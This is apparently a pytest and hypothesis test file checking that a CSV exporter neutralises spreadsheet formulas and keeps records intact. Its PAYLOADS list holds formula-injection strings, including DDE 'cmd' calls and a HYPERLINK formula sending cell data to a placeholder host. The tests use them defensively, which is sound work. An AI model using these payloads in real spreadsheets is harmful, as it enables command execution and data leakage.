"""candidates.csv: no cell is a formula, and nothing is lost."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fake_records import empty_records, fake_records
from u2a.candidates_csv import COLUMNS, candidates_csv, cell, text_of, write_candidates
from u2a.run_records import RunRecords, candidates
from u2a.types import Message

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"

texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
pointed = st.builds(lambda first, rest: first + rest, st.text("'" + STARTS, max_size=4), texts)


def with_texts(items: list[str]) -> RunRecords:
    """Records whose prompts, answers, ids and reasons are these texts."""
    records = fake_records(len(items))
    forget = tuple(
        row.model_copy(update={"prompt": (Message(role="user", content=text),), "completion": text})
        for row, text in zip(records.partition.forget, items, strict=True)
    )
    return replace(records, partition=records.partition.model_copy(update={"forget": forget}))


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: repr(text)[:12])
def test_a_formula_becomes_a_text(payload: str) -> None:
    (row,) = read(candidates_csv(with_texts([payload])))
    assert row["prompt"] == row["answer"] == "'" + payload
    assert text_of(row["prompt"]) == payload


def test_a_hostile_reason_is_neutralised_too() -> None:
    rows = read(candidates_csv(fake_records(3, "=1+1")))
    assert {row["reason"] for row in rows} == {"'=1+1", "gain below the last one taken"}


@pytest.mark.parametrize("text", ["", "plain", "'tis", "a=b", "1+1", " =x", "\u2212 a minus sign"])
def test_other_texts_are_left_alone(text: str) -> None:
    assert cell(text) == text == text_of(text)


@given(st.one_of(texts, pointed))
def test_no_text_stays_a_formula_and_every_text_comes_back(text: str) -> None:
    safe = cell(text)
    assert isinstance(safe, str)
    assert safe[:1] not in set(STARTS)
    assert text_of(safe) == text


@settings(deadline=None, max_examples=40)
@given(st.lists(st.one_of(texts, pointed), min_size=1, max_size=4))
def test_a_file_read_back_holds_the_records(items: list[str]) -> None:
    records = with_texts(items)
    found = [
        [text_of(row[name]) for name in ("id", "prompt", "answer", "reason")] for row in read(candidates_csv(records))
    ]
    assert found == [[row.id, row.prompt, row.answer, row.reason] for row in candidates(records)]


def test_numbers_stay_numbers_to_the_last_digit() -> None:
    records = fake_records(12)
    assert records.rewards is not None
    records = replace(records, rewards=records.rewards.model_copy(update={"rows": records.rewards.rows[1:]}))
    rows, expected = read(candidates_csv(records)), candidates(records)
    assert list(rows[0]) == list(COLUMNS) == ["id", "prompt", "answer", "gain", "se", "weight", "reason", "reward"]
    for name in ("gain", "se", "weight", "reward"):
        values = [getattr(row, name) for row in expected]
        assert [float(row[name]) if row[name] else None for row in rows] == values
    assert any((row.reward or 0) < 0 for row in expected)
    assert [row.reward for row in expected].count(None) == 1


def test_the_file_is_utf8_with_the_line_ends_of_the_rfc(tmp_path: Path) -> None:
    path = write_candidates(with_texts(['a, "b"\nc', "\u00e9\u65e5\U0001f600"]), tmp_path / "candidates.csv")
    data = path.read_bytes()
    assert data.startswith(b"id,prompt,answer,gain,se,weight,reason,reward\r\n")
    assert data.endswith(b"\r\n")
    assert b'"a, ""b""\nc"' in data
    assert "\u00e9\u65e5\U0001f600".encode() in data


def test_a_run_without_candidates_has_a_header_alone() -> None:
    assert candidates_csv(empty_records()) == ",".join(COLUMNS) + "\r\n"
